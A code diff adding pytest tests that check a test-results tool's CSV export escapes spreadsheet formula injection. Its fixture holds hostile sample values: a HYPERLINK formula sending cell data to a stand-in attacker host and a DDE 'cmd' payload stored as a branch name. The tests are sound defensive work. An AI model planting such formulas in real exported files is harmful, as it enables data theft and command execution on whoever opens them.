@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -9,6 +11,7 @@ import pandas as pd
 import pytest
 
 from mltest.cli import main
+from mltest.cli.store_cmds import FORMULA_START
 from mltest.model import Commit, Environment, Measurement, Run, TestResult
 from mltest.store import open_store
 
@@ -65,6 +68,78 @@ def test_export_round_trips(project: Path, fmt: str) -> None:
     frame = {"csv": pd.read_csv, "json": pd.read_json, "parquet": pd.read_parquet}[fmt](out)
     assert list(frame["sha"].str[:1]) == ["a", "b", "c"]
     assert list(frame["value"].round(3)) == [0.9, 0.8, 0.7]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
+
+
+@pytest.fixture
+def hostile_project(project: Path) -> Path:
+    """``project`` plus one run whose subject, branch, test and metric would be spreadsheet formulas,
+    and whose value is negative."""
+    store = open_store("sqlite:///results.db", root=project)
+    try:
+        commit = Commit("d" * 40, "+cmd|' /C calc'!A0", parents=("c" * 40,), subject=HYPERLINK)
+        run = Run("run3", "proj", "integration", commit, ENV, started_at="2026-02-04T00:00:00+00:00")
+        store.begin_run(run)
+        store.add_results(
+            run.run_id,
+            [TestResult("@t.py::test_y", "passed", 1.0)],
+            [Measurement("@t.py::test_y", "\t-delta", -0.5, None, True, (-0.5,))],
+        )
+        store.finish_run(run.run_id, "passed", "2026-02-04T01:00:00+00:00")
+    finally:
+        store.close()
+    return project
+
+
+def _csv_rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def test_export_csv_neutralises_formulas(hostile_project: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["export", "--format", "csv"]) == 0
+    text = capsys.readouterr().out
+    rows = _csv_rows(text)
+    assert len(rows) == 4
+    row = rows[-1]
+    assert row["subject"] == "'" + HYPERLINK
+    assert row["branch"] == "'+cmd|' /C calc'!A0"
+    assert row["test"] == "'@t.py::test_y"
+    assert row["metric"] == "'\t-delta"
+    assert [r["subject"] for r in rows[:3]] == ["commit 0", "commit 1", "commit 2"]  # harmless text unchanged
+    for r in rows:
+        assert not any(cell.startswith(FORMULA_START) for key, cell in r.items() if key != "value"), r
+    # Numbers stay numbers: a negative value is not text, so it gets no quote.
+    assert row["value"] == "-0.5"
+    frame = pd.read_csv(io.StringIO(text))
+    assert frame["value"].dtype.kind == "f"
+    assert list(frame["value"].round(3)) == [0.9, 0.8, 0.7, -0.5]
+
+
+def test_export_csv_raw_keeps_text_as_stored(hostile_project: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["export", "--format", "csv", "--raw"]) == 0
+    row = _csv_rows(capsys.readouterr().out)[-1]
+    assert row["subject"] == HYPERLINK
+    assert row["branch"] == "+cmd|' /C calc'!A0"
+    assert row["test"] == "@t.py::test_y"
+    assert row["metric"] == "\t-delta"
+    assert row["value"] == "-0.5"
+
+
+@pytest.mark.parametrize("fmt", ["json", "parquet"])
+def test_export_typed_formats_keep_text_as_stored(hostile_project: Path, fmt: str) -> None:
+    if fmt == "parquet":
+        pytest.importorskip("pyarrow", reason="parquet export needs the mltest[parquet] extra")
+    out = hostile_project / f"export.{fmt}"
+    assert main(["export", "--format", fmt, "--out", str(out)]) == 0
+    frame = pd.read_json(out) if fmt == "json" else pd.read_parquet(out)
+    row = frame.iloc[-1]
+    assert row["subject"] == HYPERLINK
+    assert row["branch"] == "+cmd|' /C calc'!A0"
+    assert row["test"] == "@t.py::test_y"
+    assert row["metric"] == "\t-delta"
+    assert row["value"] == -0.5
 
 
 def test_export_parquet_needs_out(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
